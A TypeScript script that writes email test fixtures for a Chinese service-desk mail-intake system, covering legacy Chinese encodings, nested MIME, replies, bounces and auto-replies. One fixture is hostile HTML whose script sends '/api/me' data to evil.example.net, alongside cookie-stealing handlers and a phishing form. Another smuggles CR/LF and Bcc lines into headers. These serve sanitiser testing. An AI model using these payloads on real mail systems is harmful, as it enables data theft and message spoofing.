/**
 * Writes the .eml corpus in test/mail-intake/fixtures/ (committed; run again only to change it:
 * `node test/mail-intake/make-fixtures.ts`). The messages copy the headers and MIME shapes of the
 * clients a Chinese service centre hears from — Foxmail / Tencent Exmail, Outlook, QQ Mail,
 * NetEase 163 — and their legacy character sets, which only iconv-lite can produce here.
 *
 * Placeholders the tests fill in: __CASE_ID__ and __CASE_NUMBER__ (the case a reply refers to).
 */
import fs from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';

const DIR = path.join(import.meta.dirname, 'fixtures');
/** The contact the tests create (organisation 甲方). */
export const KNOWN_SENDER = 'zhang.wei@customer-a.example.cn';

const b64 = (bytes: Buffer) => bytes.toString('base64').replace(/.{76}/g, '$&\r\n');
const enc = (text: string, charset: string) => iconv.encode(text, charset);
/** RFC 2047 encoded word, base64. */
const word = (text: string, charset: string) => `=?${charset}?B?${enc(text, charset).toString('base64')}?=`;
/** RFC 2047 encoded word, Q encoding. */
const qword = (text: string, charset: string) =>
  `=?${charset}?Q?${[...enc(text, charset)]
    .map((b) =>
      b > 0x20 && b < 0x7f && b !== 0x3d && b !== 0x3f && b !== 0x5f
        ? String.fromCharCode(b)
        : `=${b.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('')}?=`;

/** Quoted-printable of already encoded bytes, soft breaks before 76 characters. */
function qp(bytes: Buffer): string {
  const lines: string[] = [];
  for (const line of bytes.toString('latin1').split('\n')) {
    let out = '';
    let width = 0;
    for (const ch of line.replace(/\r$/, '')) {
      const b = ch.charCodeAt(0);
      const piece =
        (b >= 0x21 && b <= 0x7e && b !== 0x3d) || b === 0x20
          ? ch
          : `=${b.toString(16).toUpperCase().padStart(2, '0')}`;
      if (width + piece.length > 75) {
        out += '=\r\n';
        width = 0;
      }
      out += piece;
      width += piece.length;
    }
    lines.push(out.replace(/ $/, '=20'));
  }
  return lines.join('\r\n');
}

/** RFC 2231 extended parameter value. */
const ext = (text: string, charset: string) =>
  `${charset}''${[...enc(text, charset)].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('')}`;

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
    'trailer << /Root 1 0 R >>\n%%EOF\n',
);
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126, 0), Buffer.from('PE\0\0')]);

const crlf = (text: string) => text.replace(/\r?\n/g, '\r\n');
const fixtures: Record<string, Buffer | string> = {};

// 1. Foxmail through Tencent Exmail: GBK subject (RFC 2047) and GBK base64 body.
fixtures['foxmail-gbk-base64.eml'] = crlf(`Received: from DESKTOP-ZW01 (unknown [113.87.10.22])
\tby smtp.exmail.qq.com (ESMTP) with SMTP id 0
\tfor <support@tacdesk.example.cn>; Tue, 10 Mar 2026 09:12:01 +0800 (CST)
X-QQ-mid: bizesmtp71t1741569121tq2a0b9z
X-QQ-SSF: 00400000000000F0
Date: Tue, 10 Mar 2026 09:12:00 +0800
From: "${word('张伟', 'GBK')}" <${KNOWN_SENDER}>
To: "support" <support@tacdesk.example.cn>
Subject: ${word('核心交换机 S7706 板卡告警，业务中断', 'GBK')}
X-Priority: 3
X-Has-Attach: no
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Message-ID: <202603100912005102213@customer-a.example.cn>
Content-Type: text/plain;
\tcharset="GBK"
Content-Transfer-Encoding: base64

${b64(enc('您好：\r\n\r\n我行数据中心核心交换机 S7706 的 3 号板卡今天早上 8:50 开始告警，部分业务中断。\r\n设备序列号：2102351931P0K3000123。请尽快安排工程师处理。\r\n\r\n张伟\r\n信息科技部', 'gbk'))}
`);

// 2. Outlook: gb2312 quoted-printable text and HTML alternatives, Q-encoded subject.
fixtures['outlook-gb2312-qp.eml'] =
  crlf(`Received: from mail.customer-a.example.cn (10.1.1.5) by EX01.customer-a.example.cn
Date: Wed, 11 Mar 2026 14:03:27 +0800
From: =?gb2312?B?${enc('张伟', 'gb2312').toString('base64')}?= <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: ${qword('存储阵列硬盘故障', 'gb2312')}
Thread-Topic: ${qword('存储阵列硬盘故障', 'gb2312')}
Thread-Index: AdqTz0k3+9mJqFvGQ0uYl0x7s1oGHw==
Message-ID: <HK0PR01MB2987A1C2D3E4F5@HK0PR01MB2987.apcprd01.prod.exchangelabs.com>
Accept-Language: zh-CN, en-US
Content-Language: zh-CN
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0
Content-Type: multipart/alternative;
\tboundary="_000_HK0PR01MB2987_"

--_000_HK0PR01MB2987_
Content-Type: text/plain; charset="gb2312"
Content-Transfer-Encoding: quoted-printable

${qp(enc('各位好：\n存储阵列 OceanStor 5500 控制器 A 的 12 号硬盘亮红灯，阵列已降级。\n请安排更换备件。\n谢谢！', 'gb2312'))}

--_000_HK0PR01MB2987_
Content-Type: text/html; charset="gb2312"
Content-Transfer-Encoding: quoted-printable

${qp(enc('<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312"></head><body><p>各位好：</p><p>存储阵列 OceanStor 5500 控制器 A 的 <b>12 号硬盘</b>亮红灯，阵列已降级。</p><p>请安排更换备件。谢谢！</p></body></html>', 'gb2312'))}

--_000_HK0PR01MB2987_--
`);

// 3. QQ Mail: GB18030 (characters beyond GBK: 䶮, 𠮷) base64, HTML only.
fixtures['qqmail-gb18030.eml'] = crlf(`Received: from xmbg.qq.com (unknown [183.3.226.190])
Date: Thu, 12 Mar 2026 10:20:00 +0800
From: "${word('王𠮷', 'GB18030')}" <${KNOWN_SENDER}>
To: "support" <support@tacdesk.example.cn>
Subject: ${word('机房空调告警（䶮字测试）', 'GB18030')}
Mime-Version: 1.0
Content-Type: text/html;
\tcharset="GB18030"
Content-Transfer-Encoding: base64
X-QQ-MIME: TCMime 1.0 by Tencent
X-Mailer: QQMail 2.x
X-QQ-Mailer: QQMail 2.x
Message-ID: <tencent_5F3A2B1C0D9E8F7A6B5C4D3E2F1A0B9C8D07@qq.com>

${b64(enc('<div>机房精密空调 2 号机组高温告警，机房温度 31℃。</div><div>姓名里的生僻字：𠮷、䶮。</div>', 'gb18030'))}
`);

// 4. Big5 (a Taiwan branch): Big5 subject and body.
fixtures['big5-taiwan.eml'] = crlf(`Date: Fri, 13 Mar 2026 08:30:00 +0800
From: "${word('陳建國', 'Big5')}" <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: ${word('防火牆無法連線，請協助處理', 'Big5')}
Message-ID: <big5.20260313083000.4471@customer-a.example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset="big5"
Content-Transfer-Encoding: base64

${b64(enc('您好：\r\n台北分行的防火牆從昨晚開始無法連線，請協助處理。\r\n謝謝', 'big5'))}
`);

// 5. Nested multipart: mixed → (alternative → (text, related → (html, inline PNG))) + PDF with
//    an RFC 2231 GBK file name, as Foxmail writes a mail with a screenshot and a report.
fixtures['nested-multipart.eml'] = crlf(`Date: Mon, 16 Mar 2026 16:45:10 +0800
From: "${word('张伟', 'GBK')}" <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: ${word('服务器宕机截图及巡检报告', 'GBK')}
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Message-ID: <202603161645102345678@customer-a.example.cn>
Content-Type: multipart/mixed;
\tboundary="----=_NextPart_MIXED_001"

This is a multi-part message in MIME format.

------=_NextPart_MIXED_001
Content-Type: multipart/alternative;
\tboundary="----=_NextPart_ALT_002"

------=_NextPart_ALT_002
Content-Type: text/plain;
\tcharset="GBK"
Content-Transfer-Encoding: base64

${b64(enc('服务器 RH2288 V3 宕机，截图见正文，巡检报告见附件。', 'gbk'))}

------=_NextPart_ALT_002
Content-Type: multipart/related;
\tboundary="----=_NextPart_REL_003"

------=_NextPart_REL_003
Content-Type: text/html;
\tcharset="GBK"
Content-Transfer-Encoding: base64

${b64(enc('<html><body><p>服务器 RH2288 V3 宕机，截图如下：</p><img src="cid:screenshot01@foxmail" alt="截图"><p>巡检报告见附件。</p></body></html>', 'gbk'))}

------=_NextPart_REL_003
Content-Type: image/png;
\tname="screenshot.png"
Content-Transfer-Encoding: base64
Content-ID: <screenshot01@foxmail>
Content-Disposition: inline;
\tfilename="screenshot.png"

${b64(PNG)}

------=_NextPart_REL_003--

------=_NextPart_ALT_002--

------=_NextPart_MIXED_001
Content-Type: application/pdf;
\tname*=${ext('巡检报告.pdf', 'GBK')}
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
\tfilename*=${ext('巡检报告.pdf', 'GBK')}

${b64(PDF)}

------=_NextPart_MIXED_001--
`);

// 6. A reply whose In-Reply-To / References carry TACdesk's ids (QQ Mail quotes below a marker).
fixtures['reply-references.eml'] = crlf(`Date: Tue, 17 Mar 2026 09:00:00 +0800
From: "${word('张伟', 'UTF-8')}" <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: =?UTF-8?B?${Buffer.from('回复：工单已受理').toString('base64')}?=
Message-ID: <tencent_reply_0001@qq.com>
In-Reply-To: <tacdesk-delivery-999999@tacdesk.example.cn>
References: <tacdesk-case-__CASE_ID__@tacdesk.example.cn> <tacdesk-delivery-999999@tacdesk.example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 8bit
X-Mailer: QQMail 2.x

已经按工程师的建议重启板卡，告警消除，谢谢！

------------------ 原始邮件 ------------------
发件人: "TACdesk" <support@tacdesk.example.cn>
发送时间: 2026年3月17日(星期二) 上午8:30
收件人: "张伟" <${KNOWN_SENDER}>
主题: 工单已受理

您的工单已受理。
`);

// 7. A reply with only the case number in the subject, Outlook's zh-CN quote block, GBK QP.
fixtures['reply-subject-number.eml'] = crlf(`Date: Wed, 18 Mar 2026 11:15:00 +0800
From: ${word('张伟', 'GBK')} <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: ${word('答复:', 'GBK')} [__CASE_NUMBER__] ${word('核心交换机板卡告警', 'GBK')}
Message-ID: <HK0PR01MB2987B9C8D7E6F5@HK0PR01MB2987.apcprd01.prod.exchangelabs.com>
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0
Content-Type: text/plain; charset="GBK"
Content-Transfer-Encoding: quoted-printable

${qp(enc('备件已经收到，明天上午安排更换。\n\n发件人: TACdesk <support@tacdesk.example.cn>\n发送时间: 2026年3月18日 10:00\n收件人: 张伟 <zhang.wei@customer-a.example.cn>\n主题: [TAC] 备件已发出\n\n备件已发出，快递单号 SF1234567890。', 'gbk'))}
`);

// 8. Tencent Exmail's auto-reply ("自动回复").
fixtures['auto-reply-exmail.eml'] = crlf(`Date: Tue, 17 Mar 2026 08:31:00 +0800
From: "${word('张伟', 'GBK')}" <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: ${word('自动回复: 工单已受理', 'GBK')}
Message-ID: <autoreply_0001@exmail.qq.com>
In-Reply-To: <tacdesk-delivery-42@tacdesk.example.cn>
Auto-Submitted: auto-replied
X-Autoreply: yes
MIME-Version: 1.0
Content-Type: text/plain; charset="GBK"
Content-Transfer-Encoding: base64

${b64(enc('您好，我正在休假，3月20日返回，急事请联系李四。', 'gbk'))}
`);

// 9. A bounce (DSN) from MAILER-DAEMON: multipart/report, Return-Path <>.
fixtures['dsn-bounce.eml'] = crlf(`Return-Path: <>
Date: Tue, 17 Mar 2026 08:32:00 +0800
From: MAILER-DAEMON@smtp.exmail.qq.com (Mail Delivery System)
To: support@tacdesk.example.cn
Subject: Undelivered Mail Returned to Sender
Message-ID: <20260317003200.ABCDE1234@smtp.exmail.qq.com>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="ABCDE1234.1741221120/smtp.exmail.qq.com"

--ABCDE1234.1741221120/smtp.exmail.qq.com
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@customer-a.example.cn>: host mx.customer-a.example.cn said: 550 User unknown

--ABCDE1234.1741221120/smtp.exmail.qq.com
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; smtp.exmail.qq.com
Final-Recipient: rfc822; nobody@customer-a.example.cn
Action: failed
Status: 5.1.1

--ABCDE1234.1741221120/smtp.exmail.qq.com--
`);

// 10. Hostile HTML: script, handlers, frames, forms, remote loads, CSS url(), javascript: links.
fixtures['hostile-html.eml'] = crlf(`Date: Thu, 19 Mar 2026 02:00:00 +0800
From: "${word('张伟', 'UTF-8')}" <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: =?UTF-8?B?${Buffer.from('设备巡检结果').toString('base64')}?=
Message-ID: <hostile.0001@customer-a.example.cn>
MIME-Version: 1.0
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: 8bit

<html><head><style>body{background:url(https://tracker.example.net/bg.png)}</style>
<script>fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example.net',t))</script></head>
<body onload="alert(1)"><p style="color:red;background-image:url('https://tracker.example.net/p.gif')">巡检结果正常。</p>
<img src="https://tracker.example.net/open.gif?u=1" width="1" height="1">
<img src="x" onerror="alert(document.cookie)">
<iframe src="https://evil.example.net/phish"></iframe>
<object data="https://evil.example.net/x.swf"></object><embed src="https://evil.example.net/x.swf">
<form action="https://evil.example.net/login"><input name="password"></form>
<a href="javascript:alert(1)">点击查看</a> <a href="https://vendor.example.com/kb/123">知识库</a>
<svg><script>alert(2)</script></svg><math><mi xlink:href="javascript:alert(3)">x</mi></math>
<div style="width:expression(alert(4))">样式</div><base href="https://evil.example.net/">
<meta http-equiv="refresh" content="0;url=https://evil.example.net/">
</body></html>
`);

// 11. Unknown sender (a NetEase 163 address nobody registered).
fixtures['unknown-sender-163.eml'] = crlf(`Received: from m15-111.126.com (m15-111.126.com [220.181.15.111])
Date: Fri, 20 Mar 2026 19:05:00 +0800 (CST)
From: "${word('李娜', 'GBK')}" <lina_it@163.com>
To: support@tacdesk.example.cn
Subject: ${word('咨询：路由器保修期查询', 'GBK')}
X-Mailer: Coremail Webmail Server Version XT5.0.13 build 20210104(ab8c30b6)
X-Coremail-Locale: zh_CN
Message-ID: <5a1b2c3d.4e5f.18e5b6c7d8e.Coremail.lina_it@163.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=GBK
Content-Transfer-Encoding: base64

${b64(enc('你好，我们单位的 AR2220 路由器序列号 210235A1234567，想查一下是否还在保修期内。', 'gbk'))}
`);

// 12. An executable next to a log file: the executable is skipped, the log kept.
fixtures['exe-attachment.eml'] = crlf(`Date: Sat, 21 Mar 2026 10:00:00 +0800
From: "${word('张伟', 'GBK')}" <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: ${word('升级工具和日志', 'GBK')}
Message-ID: <exe.0001@customer-a.example.cn>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

升级工具和设备日志见附件。
--b1
Content-Type: application/octet-stream; name="setup.exe"
Content-Disposition: attachment; filename="setup.exe"
Content-Transfer-Encoding: base64

${b64(EXE)}
--b1
Content-Type: text/plain; charset=GBK; name="device.log"
Content-Disposition: attachment; filename="device.log"
Content-Transfer-Encoding: base64

${b64(enc('2026-03-21 09:58:01 %BOARD-3-FAULT: 板卡 3 温度过高\n', 'gbk'))}
--b1--
`);

// 13. No Message-ID at all (some scanners and scripts send such mail).
fixtures['no-message-id.eml'] = crlf(`Date: Sun, 22 Mar 2026 07:00:00 +0800
From: ${KNOWN_SENDER}
To: support@tacdesk.example.cn
Subject: =?UTF-8?B?${Buffer.from('扫描仪发送的故障单').toString('base64')}?=
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

UPS 电池自检失败，请派人检查。
`);

// 14. Header injection attempts: encoded CR/LF in the subject and the display name, a folded
//     subject with a fake header line, a second From and To.
fixtures['header-injection.eml'] = crlf(`Date: Mon, 23 Mar 2026 12:00:00 +0800
From: "=?UTF-8?B?${Buffer.from('攻击者\r\nBcc: victim@example.com').toString('base64')}?=" <${KNOWN_SENDER}>
From: boss@customer-a.example.cn
To: support@tacdesk.example.cn
To: other@example.com
Subject: =?UTF-8?B?${Buffer.from('正常标题\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>').toString('base64')}?=
Message-ID: <injection.0001@customer-a.example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

正文：标题里藏了换行。
`);

// 15. A newsletter: Precedence bulk, List-Id.
fixtures['precedence-bulk.eml'] = crlf(`Date: Tue, 24 Mar 2026 06:00:00 +0800
From: "Vendor Newsletter" <news@vendor.example.com>
To: support@tacdesk.example.cn
Subject: March security advisories
Message-ID: <news.20260324@vendor.example.com>
Precedence: bulk
List-Id: <advisories.vendor.example.com>
List-Unsubscribe: <https://vendor.example.com/unsubscribe>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

Advisories for March.
`);

// 16. TACdesk's own notification coming back (a forwarding loop).
fixtures['own-message.eml'] = crlf(`Date: Tue, 24 Mar 2026 07:00:00 +0800
From: "TACdesk" <support@tacdesk.example.cn>
To: ${KNOWN_SENDER}
Subject: =?UTF-8?B?${Buffer.from('[TAC-2026-000001] 工单已受理').toString('base64')}?=
Message-ID: <tacdesk-delivery-77@tacdesk.example.cn>
References: <tacdesk-case-1@tacdesk.example.cn>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

您的工单已受理。
`);

// 17. An English Outlook reply ("On … wrote:" and "From: … Sent:" quoting).
fixtures['outlook-english-reply.eml'] = crlf(`Date: Wed, 25 Mar 2026 15:00:00 +0800
From: Zhang Wei <${KNOWN_SENDER}>
To: support@tacdesk.example.cn
Subject: RE: [__CASE_NUMBER__] Core switch board alarm
Message-ID: <HK0PR01MB2987C1D2E3F4A5@HK0PR01MB2987.apcprd01.prod.exchangelabs.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"

The replacement board works, please close the case.

________________________________
From: TACdesk <support@tacdesk.example.cn>
Sent: Wednesday, March 25, 2026 10:00 AM
To: Zhang Wei <${KNOWN_SENDER}>
Subject: [TAC] Board shipped

The board was shipped.
`);

fs.mkdirSync(DIR, { recursive: true });
for (const [name, content] of Object.entries(fixtures)) {
  fs.writeFileSync(
    path.join(DIR, name),
    typeof content === 'string' ? Buffer.from(content, 'utf8') : content,
  );
}
process.stdout.write(`wrote ${Object.keys(fixtures).length} fixtures to ${DIR}\n`);
